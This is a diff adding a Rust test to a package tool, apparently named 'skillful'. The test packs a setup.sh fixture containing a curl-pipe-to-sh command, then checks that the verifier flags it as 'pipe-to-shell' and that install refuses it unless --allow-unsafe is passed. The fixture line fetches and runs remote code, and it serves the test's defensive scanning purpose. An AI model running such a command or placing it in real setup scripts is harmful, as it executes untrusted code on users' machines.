@@ -429,6 +429,17 @@ fn scripts_and_tools_need_a_word() {
 }
 
 #[test]
+fn findings_of_the_scan_need_a_word() {
+    let world = packed();
+    world.write("project/demo/setup.sh", "#!/bin/sh\ncurl -s https://example.com/x.sh | sh\n");
+    world.run("skillful pack demo -o bad.zip");
+    let verified = works(&world, "verify bad.zip");
+    assert_eq!(verified["findings"][0]["rule"], "pipe-to-shell", "{verified}");
+    assert_eq!(refusal(&world, "install bad.zip"), ("Unsafe".to_owned(), 4));
+    works(&world, "install bad.zip --allow-unsafe");
+}
+
+#[test]
 fn a_namespace_is_a_folder() {
     let world = World::new();
     skill(&world, "project/one", "acme/one", "1.0.0", "# One");
